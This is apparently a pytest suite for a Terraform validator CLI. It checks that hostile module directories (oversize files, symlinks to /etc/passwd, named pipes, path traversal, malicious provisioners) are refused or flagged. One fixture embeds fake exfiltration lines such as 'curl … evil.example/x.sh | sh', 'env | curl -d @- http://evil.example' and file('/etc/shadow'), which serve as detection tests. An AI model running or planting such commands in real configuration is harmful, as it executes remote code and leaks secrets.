"""`archops validate DIR` on hostile directories, through the real command line.

Each bad input is a clear error and exit status 65 (4 for a missing directory), never a
traceback; oversize files are refused before they are read; symbolic links are followed only
inside the directory.
"""

from __future__ import annotations

import contextlib
import io
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from cli.main import main
from core.errors import ValidationError
from core.terraform.source import MAX_FILE_BYTES, MAX_TOTAL_BYTES, read_dir

ROOT = Path(__file__).resolve().parents[2]
CLEAN = 'resource "aws_vpc" "main" {\n  cidr_block = "10.0.0.0/16"\n}\n'


def validate(directory: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    """`archops validate DIR` as the command line runs it, in this process (``cli.main.main``:
    the arguments, the settings, the exit status and both streams; the tests below that change
    the environment run it as a process of its own)."""
    argv = ["validate", str(directory), "--checks", "parse,policy", *extra]
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(argv)
    return subprocess.CompletedProcess(argv, code, out.getvalue(), err.getvalue())


def refused(directory: Path, *words: str) -> str:
    result = validate(directory)
    assert result.returncode == 65, (result.returncode, result.stdout, result.stderr)
    assert "Traceback" not in result.stderr and result.stdout == ""
    for word in words:
        assert word in result.stderr, result.stderr
    return result.stderr


def test_a_file_over_the_limit_is_refused_before_it_is_read(tmp_path: Path) -> None:
    with open(tmp_path / "main.tf", "wb") as handle:  # 50 MB, sparse: nothing is written
        handle.truncate(50 * 1024 * 1024)
    started = time.monotonic()
    refused(tmp_path, "main.tf is 50.0 MiB, over the limit of 1.0 MiB per file")
    assert time.monotonic() - started < 30


def test_files_over_the_total_limit_are_refused(tmp_path: Path) -> None:
    for i in range(5):
        with open(tmp_path / f"f{i}.tf", "wb") as handle:
            handle.truncate(MAX_FILE_BYTES - 1024)
    refused(tmp_path, "together, over the limit of 4.0 MiB")
    assert (MAX_FILE_BYTES, MAX_TOTAL_BYTES) == (1024 * 1024, 4 * 1024 * 1024)


def test_the_limits_come_from_settings(tmp_path: Path) -> None:
    (tmp_path / "main.tf").write_text(CLEAN + "# padding\n" * 400)  # ~4 kB
    assert validate(tmp_path, "--checks", "parse").returncode == 0
    env = {**os.environ, "ARCHOPS_VALIDATE_MAX_FILE_BYTES": "2048"}
    result = subprocess.run(
        [sys.executable, "-m", "cli.main", "validate", str(tmp_path), "--checks", "parse"],
        cwd=ROOT, capture_output=True, text=True, timeout=120, env=env,
    )
    assert result.returncode == 65 and "over the limit of 2048 bytes per file" in result.stderr


def test_invalid_utf8_names_the_file_and_byte_offset(tmp_path: Path) -> None:
    (tmp_path / "a.tf").write_text(CLEAN)
    data = b'resource "aws_vpc" "main" {\n  cidr_block = "10.0.0.0/16"\n  # caf\xe9\n}\n'
    (tmp_path / "main.tf").write_bytes(data)
    offset = data.index(b"\xe9")
    refused(tmp_path, f"main.tf is not valid UTF-8: byte 0xe9 at offset {offset} (line 3)")


def test_a_symlink_out_of_the_directory_is_not_followed(tmp_path: Path) -> None:
    module = tmp_path / "module"
    module.mkdir()
    (module / "main.tf").symlink_to("/etc/passwd")
    refused(module, "main.tf is a symbolic link to /etc/passwd", "does not follow links out of the module")
    (module / "main.tf").unlink()
    (tmp_path / "outside.tf").write_text(CLEAN)
    (module / "main.tf").symlink_to("../outside.tf")
    refused(module, "main.tf is a symbolic link to", "outside")


def test_a_symlink_inside_the_directory_is_read(tmp_path: Path) -> None:
    (tmp_path / "shared").mkdir()
    (tmp_path / "shared" / "vpc.txt").write_text(CLEAN)
    (tmp_path / "main.tf").symlink_to("shared/vpc.txt")
    assert read_dir(tmp_path) == {"main.tf": CLEAN}


def test_non_regular_files_are_refused(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "main.tf")  # opening it for reading would block forever
    refused(tmp_path, "main.tf is a named pipe, not a regular file")
    (tmp_path / "main.tf").unlink()
    (tmp_path / "main.tf").mkdir()
    refused(tmp_path, "main.tf is a directory, not a regular file")


def test_a_broken_link_is_a_clear_error(tmp_path: Path) -> None:
    (tmp_path / "main.tf").symlink_to(tmp_path / "gone.tf")
    refused(tmp_path, "main.tf is a broken link")


def test_every_problem_is_reported_at_once(tmp_path: Path) -> None:
    (tmp_path / "a.tf").symlink_to("/etc/hostname")
    os.mkfifo(tmp_path / "b.tf")
    with pytest.raises(ValidationError) as caught:
        read_dir(tmp_path)
    assert "2 problems" in caught.value.message
    assert "a.tf is a symbolic link" in caught.value.message and "b.tf is a named pipe" in caught.value.message


def test_configuration_the_review_cannot_read_is_refused(tmp_path: Path) -> None:
    (tmp_path / "main.tf").write_text(CLEAN)
    (tmp_path / "evil.tf.json").write_text('{"resource": {"terraform_data": {"x": {"provisioner": '
                                          '{"local-exec": {"command": "id"}}}}}}')
    refused(tmp_path, "evil.tf.json: archops reviews HCL .tf files only")


def test_file_names_never_leave_the_parser_folder(tmp_path: Path) -> None:
    from core.errors import TerraformError
    from core.terraform.review import review_module

    target = tmp_path / "escaped.tf"
    with pytest.raises(TerraformError, match="not a file (name )?inside the module"):
        review_module({f"../../../../../../..{target}": CLEAN}, {"parse"})
    assert not target.exists()


def test_missing_and_empty_directories_keep_their_exit_codes(tmp_path: Path) -> None:
    result = validate(tmp_path / "nope")
    assert result.returncode == 4 and "is not a directory" in result.stderr
    result = validate(tmp_path)
    assert result.returncode == 65 and "holds no .tf files" in result.stderr


def test_the_issue_module_fails_through_the_cli(tmp_path: Path) -> None:
    (tmp_path / "main.tf").write_text(
        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n'
        '    command = "curl -s http://evil.example/x.sh | sh"\n  }\n}\n'
        'data "external" "env" {\n  program = ["sh", "-c", "env | curl -d @- http://evil.example"]\n}\n'
        'data "http" "out" {\n  url = "http://evil.example/"\n}\n'
        'output "shadow" {\n  value     = file("/etc/shadow")\n  sensitive = true\n}\n'
    )
    result = validate(tmp_path)
    assert result.returncode == 1, result.stderr
    for line in ("[critical] ARCHOPS_EXEC_PROVISIONER main.tf:2", "[critical] ARCHOPS_EXEC_EXTERNAL main.tf:7",
                 "[high] ARCHOPS_EXFIL_HTTP main.tf:10", "[high] ARCHOPS_FILE_OUTSIDE_MODULE main.tf:13"):
        assert line in result.stdout, result.stdout
    assert result.stdout.rstrip().splitlines()[-1].startswith("FAILED")


def test_settings_allow_a_host_through_the_cli(tmp_path: Path) -> None:
    (tmp_path / "main.tf").write_text('data "http" "ip" {\n  url = "https://checkip.amazonaws.com/"\n}\n')
    assert validate(tmp_path).returncode == 1
    env = {**os.environ, "ARCHOPS_REVIEW_HTTP_HOSTS": "checkip.amazonaws.com"}
    result = subprocess.run(
        [sys.executable, "-m", "cli.main", "validate", str(tmp_path), "--checks", "parse,policy"],
        cwd=ROOT, capture_output=True, text=True, timeout=120, env=env,
    )
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize("depth", [40, 3000])
def test_deep_nesting_is_a_finding_not_a_traceback(tmp_path: Path, depth: int) -> None:
    (tmp_path / "main.tf").write_text('resource "aws_vpc" "x" {\n' + "a {\n" * depth + "}\n" * depth + "}\n")
    result = validate(tmp_path)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr[-500:]
    assert "terraform_parse main.tf:0: blocks nest deeper than 32 levels" in result.stdout


def test_file_names_that_would_garble_reports_are_refused(tmp_path: Path) -> None:
    (tmp_path / os.fsdecode(b"\xff\xfe.tf")).write_text(CLEAN)
    (tmp_path / "a\nb.tf").write_text(CLEAN)
    result = subprocess.run(
        [sys.executable, "-m", "cli.main", "validate", str(tmp_path), "--format", "json"],
        cwd=ROOT, capture_output=True, text=True, timeout=120,
    )
    assert result.returncode == 65 and "Traceback" not in result.stderr
    assert "'a\\nb.tf', '\\xff\\xfe.tf': a .tf file name that is not valid UTF-8" in result.stderr


def _module_tree(root: Path) -> None:
    (root / "modules" / "a").mkdir(parents=True)
    (root / "modules" / "b").mkdir()
    (root / "modules" / "evil").mkdir()
    (root / "main.tf").write_text('module "a" {\n  source = "./modules/a"\n}\n')
    (root / "modules" / "a" / "main.tf").write_text(
        'module "b" {\n  source = "../b"\n}\nmodule "evil" {\n  source = "../evil"\n}\n')
    (root / "modules" / "b" / "main.tf").write_text('variable "x" {\n  type = string\n}\n')
    (root / "modules" / "evil" / "main.tf").write_text(
        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n')


def test_local_child_modules_are_checked_too(tmp_path: Path) -> None:
    """Terraform loads ./modules/x as well: a provisioner moved there is still found."""
    _module_tree(tmp_path)
    result = validate(tmp_path)
    assert result.returncode == 1, result.stderr
    assert "[critical] ARCHOPS_EXEC_PROVISIONER modules/evil/main.tf:2 terraform_data.x" in result.stdout
    assert "ARCHOPS_MODULE_SOURCE" not in result.stdout  # ../b from modules/a stays inside


def test_a_child_module_folder_linked_out_is_refused(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "main.tf").write_text(CLEAN)
    module = tmp_path / "module"
    (module / "modules").mkdir(parents=True)
    (module / "modules" / "net").symlink_to(outside)
    (module / "main.tf").write_text('module "net" {\n  source = "./modules/net"\n}\n')
    refused(module, "module source './modules/net' (in the root module) is a link to", "outside")
